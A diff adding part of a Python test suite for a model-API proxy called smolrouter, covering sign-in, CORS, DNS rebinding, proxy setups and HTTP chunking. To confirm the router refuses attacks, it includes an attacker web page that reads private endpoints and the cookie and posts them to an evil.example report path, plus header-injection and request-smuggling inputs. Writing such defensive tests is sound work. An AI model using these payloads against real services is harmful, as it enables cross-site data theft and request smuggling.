+        return "GET", "/v1/models", [("X-Forwarded-For", source), *token]
+
+    tries = [asked(kind, "198.51.100.1") for kind in ["bad", "expired", "wrong alg"] * 4]
+    assert statuses(router, *tries) == [401] * 10 + [429] * 2
+    kinds = ("good", "none", "expired", "bad", "good")
+    more = [asked(kind, "198.51.100.1") for kind in kinds]
+    assert statuses(router, *more) == [200, 401, 429, 429, 200]
+    assert statuses(router, asked("bad", "198.51.100.2")) == [401]
+    late = request(router.port, "GET", "/", fields=asked("bad", "198.51.100.1")[2])
+    assert (late.status, late.content) == (429, smolrouter.DASHBOARD_HTML.encode())
+    assert 0 < int(late.get("Retry-After")) <= 60
+
+
+# --- signing in -----------------------------------------------------------------------
+
+
+def sign_in(router: Router, token: Any, *fields: tuple[str, str], **more: Any) -> Answer:
+    """One try at signing in, as the page does it."""
+    host = ("Origin", f"http://127.0.0.1:{router.port}")
+    fields = fields if "Origin" in dict(fields) else (host, *fields)
+    return request(router.port, "POST", "/api/signin", {"token": token}, fields, **more)
+
+
+def test_signing_in_and_out() -> None:
+    router = guarded_by("ALWAYS_AUTH", TRUSTED_PROXIES="127.0.0.3")
+    asked = request(router.port, "GET", "/api/session").json
+    version = smolrouter.__version__
+    wanted = {"version": version, "webui_security": "ALWAYS_AUTH", "needs_token": True}
+    assert asked == {**wanted, "authenticated": False}
+    page = request(router.port, "GET", "/")
+    assert (page.status, page.content) == (401, smolrouter.DASHBOARD_HTML.encode())
+    assert page.get("Content-Security-Policy") and page.get("X-Frame-Options") == "DENY"
+    assert page.get("WWW-Authenticate") == "Bearer"
+
+    got = sign_in(router, GOOD)
+    assert (got.status, got.content) == (204, b"")
+    value, *limits = (got.get("Set-Cookie") or "").split("; ")
+    assert value == f"smolrouter_token={GOOD}"
+    age = limits.pop(0)
+    assert age == "Max-Age=34560000" and limits == ["Path=/", "HttpOnly", "SameSite=Strict"]
+    cookie = [("Cookie", value)]
+    assert request(router.port, "GET", "/", fields=cookie).status == 200
+    assert request(router.port, "GET", "/api/inflight", fields=cookie).status == 200
+    asked = request(router.port, "GET", "/api/session", fields=cookie).json
+    assert asked == {**wanted, "authenticated": True}
+
+    out = request(router.port, "POST", "/api/signout", b"", fields=cookie)
+    assert out.status == 204
+    assert (out.get("Set-Cookie") or "").startswith("smolrouter_token=; Max-Age=0;")
+
+
+@pytest.mark.parametrize("content, status", [
+    (b" " * 20_000 + b"{}", 400), (b"", 400), (b"{}", 400), (b"[]", 400),
+    (b'{"token": 7}', 400), (b'{"token": null}', 400),
+    (b'{"token": ""}', 401), (b'{"token": "x\\r\\nSet-Cookie: a=b"}', 401),
+    (dumps({"token": GOOD + "\r\nA: b"}), 401), (dumps({"token": GOOD + "=; x=y"}), 401),
+    (dumps({"token": CARRIED["bad"]}), 401), (dumps({"token": CARRIED["wrong alg"]}), 401),
+])  # fmt: skip
+def test_bad_sign_in(content: bytes, status: int) -> None:
+    router = guarded_by("ALWAYS_AUTH", TRUSTED_PROXIES="127.0.0.1")
+    fields = [("X-Forwarded-For", another_address())]
+    got = request(router.port, "POST", "/api/signin", content, fields)
+    assert (got.status, got.get("Set-Cookie")) == (status, None)
+
+
+def test_sign_in_without_a_secret_is_refused_with_the_reason() -> None:
+    got = sign_in(guarded_by("NONE", ""), GOOD)
+    assert got.status == 403 and "JWT_SECRET" in got.json["error"]["message"]
+
+
+def test_cookie_is_secure_where_the_page_was() -> None:
+    router = guarded_by("ALWAYS_AUTH", TRUSTED_PROXIES="127.0.0.1", ALLOWED_HOSTS="m.example")
+    plain = guarded_by("ALWAYS_AUTH")
+    secured, own = ("X-Forwarded-Proto", "https"), ("Host", "m.example")
+    for way, fields, secure in (
+        (router, [secured], True),
+        (router, [("X-Forwarded-Proto", "http")], False),
+        (router, [("X-Forwarded-Proto", "https, http")], False),
+        (router, [], False),
+        (plain, [secured], False),  # anybody could say so
+        (plain, [("Origin", f"https://127.0.0.1:{plain.port}")], True),
+    ):
+        got = sign_in(way, GOOD, *fields)
+        assert got.status == 204
+        assert ("; Secure" in got.get("Set-Cookie")) == secure, fields
+    data = encode_request("POST", "/api/signin", {"token": GOOD}, [("Origin", "https://m.example")])
+    got = parse(raw(router.port, data.replace(b"Host: router", b"Host: %b" % own[1].encode())))
+    assert got.status == 204 and "; Secure" in got.get("Set-Cookie")
+
+
+def test_sign_in_from_another_page_is_refused() -> None:
+    for origin in ("https://evil.example", "null", "http://localhost:1"):
+        got = sign_in(guarded_by("ALWAYS_AUTH"), GOOD, ("Origin", origin))
+        assert (got.status, got.get("Set-Cookie")) == (403, None)
+
+
+def test_session_is_no_way_to_try_tokens() -> None:
+    router = guarded_by("ALWAYS_AUTH", TRUSTED_PROXIES="127.0.0.1", MAX_CONNECTIONS=99)
+    source = ("X-Forwarded-For", another_address())
+    for _ in range(10):
+        fields = [source, ("X-SmolRouter-Token", CARRIED["bad"])]
+        assert not request(router.port, "GET", "/api/session", fields=fields).json["authenticated"]
+    assert sign_in(router, CARRIED["bad"], source).status == 429
+    assert sign_in(router, GOOD, source).status == 204
+
+
+# --- pages from elsewhere -------------------------------------------------------------
+
+
+def test_answers_of_the_web_ui_stay_where_they_are() -> None:
+    for path, status in (("/", 200), ("/api/inflight", 200), ("/api/session", 200), ("/", 421)):
+        data = get(path, [("Connection", "close")])
+        if status == 421:
+            data = data.replace(b"Host: router", b"Host: evil.example")
+        got = parse(raw(shared().port, data, answers=0))
+        assert got.status == status
+        assert got.get("Cache-Control") == "no-store"
+        assert got.get("X-Content-Type-Options") == "nosniff"
+        assert got.get("X-Frame-Options") == "DENY"
+        assert got.get("Cross-Origin-Resource-Policy") == "same-origin"
+
+
+def test_a_page_of_a_server_cannot_use_the_web_ui() -> None:
+    """A server's HTML would be of the router's origin; a browser must not run it."""
+    script = stage().plays(answer(b"<script>fetch('/api/logs')</script>", kind="text/html"))
+    shown = [("Accept", "text/html,*/*;q=0.8")]
+    got = request(shared().port, "GET", f"/v1/{script}", fields=shown)
+    assert "sandbox" in got.get("Content-Security-Policy")
+    assert "allow-scripts" not in got.get("Content-Security-Policy")
+    assert request(shared().port, "GET", f"/v1/{script}").get("Content-Security-Policy") is None
+
+
+def test_preflight() -> None:
+    for origin, status in (("http://localhost:3000", 204), ("https://evil.example", 403)):
+        fields = [
+            ("Origin", origin),
+            ("Access-Control-Request-Method", "POST"),
+            ("Access-Control-Request-Headers", "authorization, x-stainless-os"),
+        ]
+        got = request(shared().port, "OPTIONS", CHAT, fields=fields)
+        assert got.status == status
+        if status == 204:
+            assert got.get("Access-Control-Allow-Origin") == origin
+            assert "POST" in got.get("Access-Control-Allow-Methods")
+            assert got.get("Access-Control-Allow-Headers") == fields[2][1]
+        else:
+            assert got.get("Access-Control-Allow-Origin") is None
+    got = request(
+        shared().port,
+        "OPTIONS",
+        "/api/inflight",
+        fields=[("Origin", "http://localhost:3000"), ("Access-Control-Request-Method", "GET")],
+    )
+    assert (got.status, got.get("Access-Control-Allow-Origin")) == (403, None)
+
+
+def test_page_from_elsewhere_reaches_no_upstream() -> None:
+    fields = [("Origin", "https://evil.example"), ("Content-Type", "text/plain")]
+    body = chat("csrf-from-elsewhere")
+    assert request(shared().port, "POST", CHAT, body, fields).status == 403
+    assert not stage().heard("csrf-from-elsewhere")
+
+
+ATTACK = """<!doctype html><title>attack</title><form method=post enctype=text/plain
+target=frame><input name='{"model":"MARK-form","x":"' value='"}'></form>
+<iframe name=frame></iframe><script>
+const at = "TARGET", chat = at + "/v1/chat/completions", got = {};
+const ask = name => JSON.stringify({model: "MARK-" + name, messages: []});
+const plain = {"Content-Type": "text/plain"}, json = {"Content-Type": "application/json"};
+const read = async (name, url, options) => {
+  try {
+    const answer = await fetch(url, options);
+    got[name] = `${answer.type} ${answer.status} ${await answer.text()}`;
+  } catch (error) { got[name] = "refused"; }
+};
+const load = (tag, url) => new Promise(done => {
+  const node = document.createElement(tag);
+  node.onload = () => done("loaded"); node.onerror = () => done("refused");
+  node.src = url; document.body.append(node); setTimeout(done, 2000, "refused");
+});
+(async () => {
+  await Promise.all([
+    read("running", at + "/api/inflight"), read("logs", at + "/api/logs"),
+    read("models", at + "/v1/models"), read("page", at + "/"),
+    read("blind get", at + "/v1/MARK-blind-get", {mode: "no-cors"}),
+    read("simple", chat, {method: "POST", headers: plain, body: ask("simple")}),
+    read("no-cors", chat, {method: "POST", mode: "no-cors", headers: plain, body: ask("blind")}),
+    read("preflight", chat, {method: "POST", headers: json, body: ask("preflight")}),
+    read("sign-in", at + "/api/signin", {method: "POST", body: "{}"}),
+    read("credentials", at + "/api/inflight", {credentials: "include"}),
+  ]);
+  navigator.sendBeacon(chat, ask("beacon"));
+  document.forms[0].action = chat; document.forms[0].submit();
+  got.script = await load("script", at + "/api/inflight");
+  got.image = await load("img", at + "/v1/MARK-image");
+  const frame = document.createElement("iframe");
+  frame.src = at + "/"; document.body.append(frame);
+  await new Promise(done => { frame.onload = done; setTimeout(done, 2000); });
+  try { got.frame = frame.contentDocument ? frame.contentDocument.body.innerText : "refused"; }
+  catch (error) { got.frame = "refused"; }
+  got.cookie = document.cookie;
+  await fetch("/attack-report", {method: "POST", body: JSON.stringify(got)});
+  if ("NEXT") location = "NEXT";
+})();
+</script>"""
+
+
+class Attacker:
+    """A web site that attacks from a browser; once loaded, its name means the router.
+
+    That is DNS rebinding: `/attack...` is the site's own, all else goes to the router.
+    """
+
+    def __init__(self, router: Router) -> None:
+        self.router, self.page, self.report = router, "", ""
+        self._listener = socket.create_server(("127.0.0.1", 0))
+        self.port = self._listener.getsockname()[1]
+        threading.Thread(target=self._accept, daemon=True).start()
+
+    def _accept(self) -> None:
+        with contextlib.suppress(OSError):
+            while True:
+                sock, _ = self._listener.accept()
+                threading.Thread(target=self._serve, args=(sock,), daemon=True).start()
+
+    def _serve(self, sock: socket.socket) -> None:
+        with contextlib.suppress(OSError), sock, sock.makefile("rb") as reader:
+            while received := receive(sock, reader, 0):
+                if received.path == "/attack-report":
+                    self.report = received.content.decode()
+                    sock.sendall(answer(b"")[0])
+                elif received.path == "/attack":
+                    sock.sendall(answer(self.page.encode(), kind="text/html")[0])
+                else:  # as it is, but for the connection
+                    asked = received.raw_head + b"\r\n" + received.content
+                    asked = re.sub(rb"(?i)\r\nconnection: [^\r]*", b"", asked, count=1)
+                    asked = asked.replace(b"\r\n", b"\r\nConnection: close\r\n", 1)
+                    sock.sendall(raw(self.router.port, asked, answers=0))
+                    return
+
+    def close(self) -> None:
+        self._listener.close()
+
+
+@contextlib.contextmanager
+def surfing(url: str, folder: pathlib.Path) -> Iterator[None]:
+    """A real browser at this address, for whom evil.example is this machine."""
+    flags = [
+        "--headless=new",
+        "--no-sandbox",
+        "--disable-gpu",
+        "--no-first-run",
+        "--disable-background-networking",
+        f"--user-data-dir={folder}",
+        "--host-resolver-rules=MAP evil.example 127.0.0.1",
+        "--proxy-server=direct://",
+    ]
+    process = subprocess.Popen(
+        [browser(), *flags, url],
+        start_new_session=True,
+        stdin=subprocess.DEVNULL,
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+    )
+    try:
+        yield
+    finally:
+        with contextlib.suppress(ProcessLookupError):
+            os.killpg(process.pid, signal.SIGKILL)
+        process.wait()
+
+
+def test_a_real_browser_is_no_way_in(tmp_path: pathlib.Path) -> None:
+    """A page of another origin, one of a rebound name, and both where all is allowed."""
+    closed = shared()
+    settings = {"ALLOWED_ORIGINS": "*", "ALLOWED_HOSTS": "evil.example", "LOG_LEVEL": "ERROR"}
+    opened = router_for({"DEFAULT_UPSTREAM": stage().url, **settings})
+    sites = {
+        name: Attacker(router)
+        for name, router in (
+            ("elsewhere", closed),
+            ("rebound", closed),
+            ("allowed", opened),
+            ("own", opened),
+        )
+    }
+    urls = {name: f"http://evil.example:{site.port}/attack" for name, site in sites.items()}
+    for (name, site), after in zip(sites.items(), [*list(urls.values())[1:], ""]):
+        target = f"http://127.0.0.1:{site.router.port}" if name in ("elsewhere", "allowed") else ""
+        page = ATTACK.replace("TARGET", target).replace("MARK", name)
+        site.page = page.replace("NEXT", after)
+    with surfing(urls["elsewhere"], tmp_path / "profile"):
+        until(lambda: sites["own"].report, 60)
+    for site in sites.values():
+        site.close()
+    got = {name: json.loads(site.report) for name, site in sites.items()}
+    for name in ("elsewhere", "rebound"):
+        said = " ".join(got[name].values())
+        assert "200" not in said and "SmolRouter" not in said, got[name]
+        assert not stage().heard(name), name
+    # The same attacks do arrive where they are allowed, so they are real ones.
+    assert got["elsewhere"]["models"] == "refused"
+    assert got["rebound"]["running"].startswith("basic 421")
+    assert got["allowed"]["running"] == "refused"  # `*` is for the model API alone
+    for name in ("allowed", "own"):
+        assert "tiny" in got[name]["models"]
+        for kind in ("simple", "preflight", "beacon", "form"):
+            assert until(lambda: stage().heard(f"{name}-{kind}")), (name, kind)
+    assert got["own"]["running"].startswith("basic 200")
+    assert stage().heard("own-blind-get") and not stage().heard("allowed-blind-get")
+
+
+# --- behind the proxies of the guide --------------------------------------------------
+
+NGINX = """daemon off; pid {folder}/pid; error_log {folder}/log; events {{}}
+{user} http {{ access_log off; client_body_temp_path {folder}/a; proxy_temp_path {folder}/b;
+fastcgi_temp_path {folder}/c; uwsgi_temp_path {folder}/d; scgi_temp_path {folder}/e;
+{server} }}"""
+CADDY = (
+    "{{ admin off\n auto_https disable_redirects\n skip_install_trust\n storage file_system "
+    "{folder}\n}}\n{server}"
+)
+
+
+@contextlib.contextmanager
+def proxied(program: str, router: Router) -> Iterator[int]:
+    """The proxy, as README sets it up, in front of a router; yields its port."""
+    found, tls = shutil.which(program, path=f"{os.environ['PATH']}:/usr/sbin"), certificate()
+    if not found and program == "nginx" and os.environ.get("SMOLROUTER_TEST_ALL") == "1":
+        pytest.fail("SMOLROUTER_TEST_ALL=1, but there is no nginx")
+    if not found or not tls:
+        pytest.skip(f"there is no {program}, or no openssl")
+    readme = (HERE / "README.md").read_text("utf-8")
+    server = readme.partition(f"```{program}\n")[2].partition("```")[0]
+    with socket.create_server(("127.0.0.1", 0)) as probe:
+        port = probe.getsockname()[1]
+    for old, new in (
+        ("127.0.0.1:1234", f"127.0.0.1:{router.port}"), ("listen 443", f"listen 127.0.0.1:{port}"),
+        ("/etc/ssl/models.crt", tls[0]), ("/etc/ssl/models.key", tls[0].replace("cert.", "key.")),
+        ("models.example.com {", f"https://models.example.com:{port} {{\n"
+         f"bind 127.0.0.1\ntls {tls[0]} {tls[0].replace('cert.', 'key.')}"),
+    ):  # fmt: skip
+        server = server.replace(old, new)
+    with tempfile.TemporaryDirectory(prefix="smol-") as folder:
+        user = "user root;" if os.getuid() == 0 else ""
+        form = NGINX if program == "nginx" else CADDY
+        config = pathlib.Path(folder) / "config"
+        config.write_text(form.format(folder=folder, server=server, user=user))
+        args = {
+            "nginx": ["-c", str(config), "-p", folder, "-e", f"{folder}/log"],
+            "caddy": ["run", "--adapter", "caddyfile", "--config", str(config)],
+        }
+        environment = {**bare_environment({}), "HOME": folder}
+        process = subprocess.Popen(
+            [found, *args[program]],
+            env=environment,
+            stdin=subprocess.DEVNULL,
+            stdout=subprocess.DEVNULL,
+            stderr=subprocess.DEVNULL,
+        )
+        try:
+
+            def listens() -> bool:
+                with contextlib.suppress(OSError), connect(port):
+                    return True
+                return False
+
+            assert until(listens) and process.poll() is None
+            yield port
+        finally:
+            process.terminate()
+            process.wait(PATIENCE)
+
+
+def through(port: int, *asked: Any) -> tuple[int, Mapping[str, str], Iterator[bytes]]:
+    """One exchange with a proxy over TLS: status, fields and the pieces of content."""
+    context = ssl.create_default_context()
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    caller = http.client.HTTPSConnection("127.0.0.1", port, timeout=PATIENCE, context=context)
+    caller.sock = context.wrap_socket(connect(port), server_hostname="models.example.com")
+    method, path, body, fields = asked
+    caller.request(
+        method,
+        path,
+        body and dumps(body),
+        {"Host": f"models.example.com:{port}", "Content-Type": "application/json", **fields},
+    )
+    response = caller.getresponse()
+
+    def pieces() -> Iterator[bytes]:
+        with contextlib.closing(caller):
+            while piece := response.read1(1 << 20):
+                yield piece
+
+    streams = "event-stream" in response.headers.get("Content-Type", "")
+    return response.status, response.headers, pieces() if streams else iter([*pieces()])
+
+
+@pytest.mark.parametrize("program", ["nginx", "caddy"])
+def test_proxy_of_the_readme(program: str) -> None:
+    more = {"TRUSTED_PROXIES": "127.0.0.1", "ALLOWED_HOSTS": "models.example.com"}
+    router = guarded_by("AUTH_WHEN_PROXIED", **more)
+    token = {"Authorization": f"Bearer {GOOD}"}
+    step = threading.Event()
+
+    def paced(received: Received) -> Iterator[Step]:
+        yield from stream_answer([event({"n": 1})], whole=False)
+        assert step.wait(PATIENCE)
+        yield from chunked(event({"n": 2}))
+
+    name = stage().plays(paced)
+    with proxied(program, router) as port:
+        own = {"Origin": f"https://models.example.com:{port}"}
+        for path in ("/v1/models", "/api/logs"):
+            assert through(port, "GET", path, None, {})[0] == 401
+            assert through(port, "GET", path, None, token)[0] == 200
+        assert statuses(router, ("GET", "/v1/models", [])) == [200]  # direct
+        status, fields, _ = through(port, "POST", "/api/signin", {"token": GOOD}, own)
+        assert status == 204 and "; Secure" in fields["Set-Cookie"]
+        cookie = {"Cookie": fields["Set-Cookie"].partition(";")[0]}
+        assert through(port, "GET", "/", None, {})[0] == 401
+        assert through(port, "GET", "/", None, cookie)[0] == 200
+        tried = {**own, **cookie}
+        assert through(port, "POST", CHAT, chat("tiny"), tried)[0] == 200
+        evil = {**cookie, "Origin": "https://evil.example"}
+        assert through(port, "POST", CHAT, chat("tiny"), evil)[0] == 403
+        status, fields, pieces = through(port, "POST", CHAT, chat(name, stream=True), token)
+        assert status == 200 and b'{"n":1}' in next(pieces)  # at once, before the second
+        step.set()
+        assert b'{"n":2}' in b"".join(pieces)
+
+
+# ======================================================================================
+# 11  HTTP on streams
+# ======================================================================================
+# Content and answers as a client sees them on a connection, slow and broken ones too.
+
+# --- requests with content ------------------------------------------------------------
+
+DOCUMENT = dumps(chat("tiny", "in pieces"))
+
+
+@pytest.mark.parametrize(
+    "data",
+    {
+        "one chunk": post_chunks(CHAT, DOCUMENT),
+        "a byte each": post_chunks(CHAT, *(bytes([b]) for b in DOCUMENT)),
+        "upper-case sizes": post_chunks(CHAT, DOCUMENT, end=b"").replace(
+            b"\r\n%x\r\n" % len(DOCUMENT), b"\r\n%X\r\n" % len(DOCUMENT)
+        )
+        + b"000\r\n\r\n",
+        "leading zeros": post_chunks(CHAT, DOCUMENT).replace(b"\r\n\r\n", b"\r\n\r\n00", 1),
+        "extensions": post_chunks(CHAT).removesuffix(b"0\r\n\r\n")
+        + b'%x;a;b=c;d="e f"\r\n%s\r\n0;last=1\r\n\r\n' % (len(DOCUMENT), DOCUMENT),
+        "trailers": post_chunks(CHAT, DOCUMENT, end=b"0\r\nX-Late: secret\r\nB: c\r\n\r\n"),
+    }.items(),
+    ids=lambda item: item[0],
+)
+def test_chunked_request(data: tuple[str, bytes]) -> None:
+    with connect(shared().port) as sock:
+        assert parse(exchange(sock, data[1])).text == "You said: in pieces"
+        assert parse(exchange(sock, get("/v1/after"))).json["target"] == "/v1/after"
+
+
+def test_trailers_of_a_request_stop_here() -> None:
+    model = stage().plays(FINE)
+    end = b"0\r\nX-Late: secret\r\nAuthorization: Bearer late\r\n\r\n"
+    raw(shared().port, post_chunks(CHAT, dumps(chat(model)), end=end))
+    (heard,) = stage().heard(model)
+    assert heard.json["model"] == model
+    assert b"late" not in heard.raw_head.lower()
+
+
+def test_request_split_at_every_position() -> None:
+    data = post_chunks(CHAT, DOCUMENT[:30], DOCUMENT[30:])
+
+    def split(at: int) -> str:
+        return parse(raw(shared().port, data[:at], 0.003, data[at:])).text
+
+    assert set(at_once(split, range(1, len(data)))) == {"You said: in pieces"}
+
+
+def test_request_byte_by_byte() -> None:
+    steps: list[bytes | float] = []
+    for byte in post(CHAT, chat("tiny", "slowly")):
+        steps += [bytes([byte]), 0.001]
+    assert parse(raw(shared().port, *steps)).text == "You said: slowly"
+
+
+def test_expect_100_continue() -> None:
+    whole = post(CHAT, chat("tiny", "go on"), [("Expect", "100-continue")])
+    top, _, content = whole.partition(b"\r\n\r\n")
+    with connect(shared().port) as sock:
+        sock.sendall(top + b"\r\n\r\n")
+        interim = receive_until(sock, b"\r\n\r\n")
+        assert interim.startswith(b"HTTP/1.1 100 ")
+        assert parse(exchange(sock, content)).text == "You said: go on"
+
+
+def test_expect_of_a_content_too_large_is_refused_at_once() -> None:
+    fields = [("Expect", "100-continue"), ("Content-Length", "9" * 12)]
+    data = raw(shared().port, encode_request("POST", CHAT, None, fields), answers=0)
+    assert data.startswith(b"HTTP/1.1 413 ")
+
+
+def test_content_up_to_the_limit() -> None:
+    limit = 2000
+    router = router_for({"DEFAULT_UPSTREAM": stage().url, "MAX_REQUEST_SIZE": limit})
+    padding = limit - len(dumps(chat("tiny", "")))
+    fits, over = (dumps(chat("tiny", "z" * (padding + more))) for more in (0, 1))
+    assert request(router.port, "POST", CHAT, fits).status == 200
+    assert parse(raw(router.port, post_chunks(CHAT, fits))).status == 200
+    for data in (
+        post(CHAT, over),
+        post_chunks(CHAT, over),
+        post_chunks(CHAT, *[b" " * 99] * 40),
+    ):
+        got = parse(raw(router.port, data, answers=0))
+        assert (got.status, got.get("Connection")) == (413, "close")
+        assert "2000" in got.json["error"]["message"]
+    assert len(stage().heard("z" * padding)) == 2
+
+
+def test_long_requests_together_are_bounded() -> None:
+    """Five clients send 7 MiB each and never end: one is refused, short ones are served."""
+    program = altered(("held_content: int = 256 *", "held_content: int = 32 *"))
+    with contextlib.ExitStack() as stack:
+        _, upstream = stack.enter_context(pair())
+        settings = {"DEFAULT_UPSTREAM": upstream.url, "MAX_REQUEST_SIZE": 16 << 20}
+        router = stack.enter_context(Router(settings, program=program))
+        top = encode_request("POST", CHAT, b"")
+        top = top.replace(b"Length: 0", b"Length: %d" % (8 << 20))
+        clients = [stack.enter_context(connect(router.port)) for _ in range(5)]
+
+        def send(sock: socket.socket) -> bytes:
+            with contextlib.suppress(ConnectionError):
+                sock.sendall(top)
+                for _ in range(7):
+                    sock.sendall(b" " * (1 << 20))
+                return b""
+            return sock.recv(1 << 16)
+
+        answers = at_once(send, clients)
+        refused = [a for a in answers if a]
+        if not refused:  # the answer came after the last octet
+            ready = selectors.DefaultSelector()
+            for sock in clients:
+                ready.register(sock, selectors.EVENT_READ)
+            refused = [key.fileobj.recv(1 << 16) for key, _ in ready.select(PATIENCE)]
+            ready.close()
+        assert refused and all(b" 503 " in a and b"Retry-After" in a for a in refused)
+        assert memory(router) < 120
+        assert ask(router, "tiny").status == 200
+        for sock in clients:
+            sock.close()
+        big = chat("tiny", "a" * (7 << 20))
+        assert until(lambda: request(router.port, "POST", CHAT, big).status == 200)
+        assert len(upstream.requests) == 2
+
+
+def test_a_client_that_leaves_while_its_content_is_read(kept: Kept) -> None:
+    name = stage().plays([HANG])
+    with Router(kept.settings) as router:
+        with connect(router.port) as sock:
+            sock.sendall(post(CHAT, {**chat(name), "x": "y" * (2 << 20)}))
+        assert kept.written(1) == 1
+    assert kept.ask("SELECT status_code, error_message FROM requests") == [(499, "client_closed")]
+
+
+def test_client_that_resets_its_upload_leaves_no_traceback() -> None:
+    for data in (post(CHAT, chat("tiny"))[:-5], get("/v1/x")[:-3]):
+        with connect(shared().port) as sock:
+            sock.sendall(data)
+            time.sleep(0.05)
+            reset = struct.pack("ii", 1, 0)
+            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, reset)
+    assert ask(shared(), "tiny").status == 200
+    assert "Traceback" not in shared().stderr
+
+
+# --- content that nobody wanted -------------------------------------------------------
+
+SMUGGLED = b"GET /v1/smuggled HTTP/1.1\r\nHost: router\r\n\r\n"
+
+
+def check_leftovers(
+    router: Router,
+    upstream: Upstream,
+    method: str,
+    path: str,
+    status: int,
+    fields: Pairs,
+    framing: str,
+) -> None:
+    """The content is read, or the connection is closed; never taken for a request."""
+    length = ("Content-Length", str(len(SMUGGLED)))
+    own = length if framing == "length" else ("Transfer-Encoding", "chunked")
+    content = SMUGGLED if framing == "length" else b"".join(chunked(SMUGGLED))
+    first = encode_request(method, path, None, [own, *fields]) + content
+    last = get("/v1/good", [("Connection", "close")])
+    answers, _ = split_answers(raw(router.port, first + last, answers=0))
+    assert answers[0].status == status
+    assert len(answers) <= 2
+    assert not [r for r in upstream.requests if r.target == "/v1/smuggled"]
+
+
+@pytest.mark.parametrize(
+    "method, path, status, fields",
+    [
+        ("POST", "/nowhere", 404, []),
+        ("PUT", "/api/chat", 405, []),
+        ("GET", "/api/chat", 405, []),
+        ("POST", CHAT, 400, []),  # it is not JSON
+        ("POST", CHAT, 403, [("Origin", "https://evil.example")]),
+        ("GET", "/v1/content-with-get", 200, []),
+    ],
+)
+@pytest.mark.parametrize("framing", ["length", "chunked"])
+def test_leftover_content_is_not_a_request(
+    method: str, path: str, status: int, fields: Pairs, framing: str
+) -> None:
+    check_leftovers(shared(), stage(), method, path, status, fields, framing)
+
+
+@pytest.mark.parametrize("framing", ["length", "chunked"])
+def test_leftover_content_after_401_is_not_a_request(framing: str) -> None:
+    settings = {"API_SECURITY": "ALWAYS_AUTH", "JWT_SECRET": SECRET}
+    router = router_for({"DEFAULT_UPSTREAM": stage().url, **settings})
+    check_leftovers(router, stage(), "POST", CHAT, 401, [], framing)
+
+
+# --- answers --------------------------------------------------------------------------
+
+
+def test_chunked_answer() -> None:
+    pieces = [b"{", b'"a"', b": ", b"[1, 2]", b"}"]
+    name = stage().plays(stream_answer(pieces, kind="application/json"))
+    got = request(shared().port, "GET", f"/v1/{name}")
+    assert (got.content, got.whole) == (b'{"a": [1, 2]}', True)
+
+
+def test_trailers_of_an_answer_stop_here() -> None:
+    end = b"0\r\nX-Late: secret\r\n\r\n"
+    steps = [*stream_answer([b"{}"], kind="application/json", whole=False), end]
+    name = stage().plays(steps)
+    for data in (get(f"/v1/{name}"), post(CHAT, chat(name))):
+        with connect(shared().port) as sock:
+            assert b"secret" not in exchange(sock, data)
+            assert parse(exchange(sock, get("/v1/after"))).status == 200
+
+
+@pytest.mark.parametrize("version", ["1.1", "1.0"])
+def test_answer_that_ends_with_the_connection(version: str) -> None:
+    steps = [head(200, [("Content-Type", "text/plain")]), b"all ", b"of it", CLOSE]
+    name = stage().plays(steps)
+    data = raw(shared().port, get(f"/v1/{name}", [("Connection", "close")], version), answers=0)
+    assert parse(data).content == b"all of it"
+
+
+def test_head_has_the_fields_and_no_content() -> None:
+    name = stage().plays(lambda r: [head(200, [("Content-Length", "12345")])])
+    with connect(shared().port) as sock:
+        ask_head = encode_request("HEAD", f"/v1/{name}")
+        got = parse(exchange(sock, ask_head, to_head=True), to_head=True)
+        assert (got.status, got.get("Content-Length")) == (200, "12345")
+        assert parse(exchange(sock, get("/v1/after"))).json["target"] == "/v1/after"
+
+
+@pytest.mark.parametrize("status", [204, 304])
+def test_statuses_without_content(status: int) -> None:
+    name = stage().plays([head(status, [("ETag", '"x"'), ("Content-Length", "7")])])
+    with connect(shared().port) as sock:
+        for _ in range(2):  # on the same upstream connection too
+            got = parse(exchange(sock, get(f"/v1/{name}")))
+            assert (got.status, got.content, got.get("ETag")) == (status, b"", '"x"')
+        assert parse(exchange(sock, get("/v1/after"))).json["target"] == "/v1/after"
+
+
+# --- HTTP/1.0 -------------------------------------------------------------------------
+
+
+def test_http_1_0_never_gets_an_interim_answer() -> None:
+    name = stage().plays([b"HTTP/1.1 103 Early Hints\r\nLink: </a>\r\n\r\n", *FINE])
+    fields = [("Expect", "100-continue")]
+    data = raw(shared().port, post(CHAT, chat(name), fields, "1.0"), answers=0)
+    assert parse(data).json == {"fine": True}
+    assert b" 100 " not in data and b" 103 " not in data
+
+
+@pytest.mark.parametrize("end", [[], [DROP]], ids=["closed", "reset"])
+def test_http_1_0_can_tell_a_broken_answer(end: list[Step]) -> None:
+    """Only the close ends it, so a cut answer is reset; a whole one is not."""
+    begun = [head(200, [("Transfer-Encoding", "chunked")]), *chunked(b"hello", end=b"")]
+    name = stage().plays([*begun, b"5\r\nhe", *end, CLOSE])
+    with pytest.raises(ConnectionResetError), connect(shared().port) as sock:
+        sock.sendall(post("/v1/images/x", {"model": name}, version="1.0"))
+        while sock.recv(4096):
+            pass
+    name = stage().plays([*begun, b"0\r\n\r\n"])
+    data = raw(shared().port, post("/v1/images/x", {"model": name}, version="1.0"), answers=0)
+    assert parse(data).content == b"hello"
+
+
+@pytest.mark.parametrize("path", [CHAT, "/api/chat"])
+def test_http_1_0_gets_no_chunks_and_a_close(path: str) -> None:
+    data = raw(shared().port, post(path, chat("tiny", stream=True), version="1.0"), answers=0)
+    assert b"transfer-encoding" not in data.lower()
+    assert parse(data).text == "You said: hi"
+
+
+def test_http_1_0_without_keep_alive_is_closed() -> None:
+    data = raw(shared().port, b"GET /v1/old HTTP/1.0\r\n\r\n" * 2, answers=0)
+    answers, rest = split_answers(data)
+    assert [a.status for a in answers] == [200]
+    assert not rest
+
+
+def test_http_1_0_with_keep_alive_stays() -> None:
+    with connect(shared().port) as sock:
+        for turn in range(2):
+            asked = get(f"/v1/old-{turn}", [("Connection", "keep-alive")], "1.0")
+            got = parse(exchange(sock, asked))
+            assert (got.status, got.json["target"]) == (200, f"/v1/old-{turn}")
+            assert (got.get("Connection") or "").lower() == "keep-alive"
+
+
+# --- clients that are slow, clients that leave ----------------------------------------
+
+
+def endless(received: Received) -> Iterator[Step]:
+    """Events for as long as somebody listens."""
+    yield from stream_answer([], whole=False)
+    for _ in range(int(PATIENCE / 0.01)):
+        yield from chunked(event(completion_events({}, "word ")[1]), end=b"")
+        yield 0.01
+
+
